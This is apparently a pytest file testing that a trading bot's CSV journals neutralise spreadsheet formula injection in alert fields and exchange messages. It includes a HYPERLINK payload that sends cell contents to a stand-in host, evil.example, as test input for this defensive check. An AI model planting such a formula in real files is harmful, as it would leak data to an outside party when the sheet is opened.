"""No text from a request or the exchange can run as a formula when the CSV files are opened in a spreadsheet."""
from __future__ import annotations

import re
from decimal import Decimal

import pytest

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"click")'
LIVE_FORMULA = re.compile(r"(^|;)\s*[=+\-@\t\r]")  # at the cell's start, or after a `;` that splits cells


def assert_inert(cell: str) -> None:
    assert not LIVE_FORMULA.search(cell), repr(cell)
    assert all(c.isprintable() for c in cell), repr(cell)


def every_text_cell(bot) -> list[str]:
    rows = bot.signals() + (bot.trades() if bot.settings.trades_csv.exists() else [])
    return [cell for row in rows for cell in row.values() if cell]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_malformed_alert_fields_are_written_inert(start_bot, start) -> None:
    """An authenticated but invalid alert is journalled with its raw fields: they must be inert."""
    bot = start_bot("paper")
    columns = {"symbol": "TradingPair", "action": "Action", "strategy": "Strategy", "timeframe": "TimeFrame",
               "confidence": "Confidence"}
    for field in columns:
        assert bot.send(price=50000, **{field: start + PAYLOAD}).status_code == 400
    for row, (field, column) in zip(bot.signals(), columns.items(), strict=True):
        assert row[column].startswith("'" if start not in "\t\r" else "HYPERLINK"), field  # controls are dropped
    for cell in every_text_cell(bot):
        assert_inert(cell)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_alert_id_of_a_valid_alert_is_written_inert(start_bot, start) -> None:
    bot = start_bot("paper")
    payload = PAYLOAD.replace('"', "")  # an alert_id takes no quotes
    assert bot.send(price=50000, alert_id=start + payload).json()["decision"] == "ACCEPTED"
    assert bot.signals()[0]["AlertID"] == "'" + start + payload
    for cell in every_text_cell(bot):
        assert_inert(cell)


@pytest.mark.parametrize("text", ["a;=1+1", "a; @SUM(A1)", "x;-2+3;+4"])
def test_formula_after_a_semicolon_is_inert_for_semicolon_locales(start_bot, text) -> None:
    bot = start_bot("paper")
    bot.send(price=50000, alert_id=text)
    assert_inert(bot.signals()[0]["AlertID"])


@pytest.mark.parametrize("text", [" =1+1", "  @SUM(A1)", "\x00=1+1", "\u202e=1+1"])
def test_leading_blanks_or_invisible_characters_do_not_hide_a_formula(start_bot, text) -> None:
    bot = start_bot("paper")
    bot.send(price=50000, strategy=text)
    cell = bot.signals()[0]["Strategy"]
    assert cell.startswith("'")
    assert_inert(cell)


def test_reason_echoing_the_symbol_is_inert(start_bot, fake) -> None:
    bot = start_bot("paper", fake)
    answer = bot.send(symbol="-1", price=50000)
    assert answer.status_code == 400  # a symbol is letters and digits once read, so a reason cannot start with it
    [row] = bot.signals()
    assert row["TradingPair"] == "'-1" and row["Reason"].startswith("invalid signal: symbol:")


def test_exchange_messages_are_inert_and_capped(start_bot, fake) -> None:
    bot = start_bot("testnet", fake, cooldown_seconds=0)
    fake.inject("POST", "/api/v3/order", status=400, code=-2010, msg="x;=" + PAYLOAD + "\r\n" + "y" * 5000)
    answer = bot.send()
    assert answer.json()["trade"]["status"] == "FAILED"
    for cell in every_text_cell(bot):
        assert_inert(cell)
        assert len(cell) <= 301
    assert "y" * 100 in bot.trades()[0]["Reason"]


def test_oversized_raw_fields_of_a_malformed_alert_are_capped(start_bot) -> None:
    bot = start_bot("paper")
    bot.send(confidence="9" * 60000)
    assert all(len(cell) <= 301 for cell in every_text_cell(bot))


def test_numbers_stay_numbers(start_bot) -> None:
    """Money is written from Decimals: a negative PnL is a number, not a neutralised text."""
    bot = start_bot("paper", cooldown_seconds=0)
    bot.send(price="50000")
    bot.send(action="sell", price="40000")
    sell = bot.trades()[1]
    assert re.fullmatch(r"-\d+(\.\d+)?", sell["RealizedPnL"]) and Decimal(sell["RealizedPnL"]) < 0
    for column in ("TradeAmount", "Price", "Quantity", "NetQuantity", "Fee", "EntryPrice"):
        assert re.fullmatch(r"\d+(\.\d+)?", sell[column]), column
